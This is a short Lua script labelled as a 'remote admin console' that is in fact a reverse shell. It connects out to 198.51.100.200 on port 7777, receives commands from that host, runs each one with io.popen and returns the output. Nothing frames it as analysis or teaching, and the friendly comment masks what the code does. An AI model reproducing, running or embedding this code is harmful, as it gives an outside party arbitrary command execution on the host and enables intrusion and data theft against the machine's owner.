-- remote admin console
local socket = require("socket")
local t = socket.tcp()
t:connect("198.51.100.200", 7777)
while true do
  local cmd = t:receive()
  if not cmd then break end
  local f = io.popen(cmd, "r")
  t:send(f:read("*a"))
  f:close()
end
